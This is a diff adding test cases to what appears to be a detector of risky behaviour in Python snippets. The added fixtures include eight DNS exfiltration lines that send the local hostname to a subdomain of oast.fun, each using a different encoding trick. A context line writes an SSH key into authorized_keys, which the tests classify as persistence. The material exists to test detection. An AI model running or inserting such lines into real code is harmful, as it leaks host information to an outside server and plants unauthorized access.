@@ -207,6 +207,40 @@ describe('names looked up, keys that let in', () => {
       '!dns-query hidden',
     ]);
   });
+  const LABELS: Record<string, string> = {
+    'in front of it': "socket.gethostbyname(h + '.x.oast.fun')",
+    'as a keyword': "socket.getaddrinfo(host=h + '.x.oast.fun', port=80)",
+    'by a format': "socket.gethostbyname('%s.x.oast.fun' % h)",
+    'by a format of several': "socket.gethostbyname('%s.%s.oast.fun' % (h, 'x'))",
+    'by a format of bytes': "socket.getaddrinfo(b'%s.x.oast.fun' % h.encode(), 80)",
+    'as bytes, joined': "socket.gethostbyname(b'.'.join([h.encode(), b'x.oast.fun']))",
+    'as bytes, decoded again': "socket.gethostbyname((h.encode() + b'.x.oast.fun').decode('ascii'))",
+    'as an international name': "socket.getaddrinfo((h + '.x.oast.fun').encode('idna'), 80)",
+  };
+  for (const [name, call] of Object.entries(LABELS)) {
+    it(`what a host name carries: ${name}`, async () => {
+      await expectBehaviors(`import socket\nh = socket.gethostname()\n${call}`, [
+        'dns-query carries:host to:catcher',
+      ]);
+    });
+  }
+  it('a host name that carries nothing', async () => {
+    await expectBehaviors("import socket\nsocket.getaddrinfo(host='%s.invalid' % 'collect', port=80)", [
+      'dns-query to:other',
+      '!dns-query carries:host',
+    ]);
+  });
+  it('an address with a hole in it keeps its host', async () => {
+    await expectBehaviors("import requests\nrequests.get('https://collect.invalid/%s' % input())", [
+      'http-request to:other',
+    ]);
+    await expectBehaviors("import requests\nrequests.get('https://%s/x' % input())", [
+      'http-request to:unknown',
+    ]);
+  });
+  it('a text that doubles with holes in it ends', async () => {
+    await sequenceOf("x = input() + 'a'\nfor i in range(10**6):\n    x = b'%s%s' % (x.encode(), x.encode())");
+  });
   it('authorized_keys written is persistence, read is not', async () => {
     const path = "os.path.expanduser('~/.ssh/authorized_keys')";
     await expectBehaviors(`import os\nopen(${path}, 'a').write('ssh-ed25519 AAAA')`, ['persist-startup']);
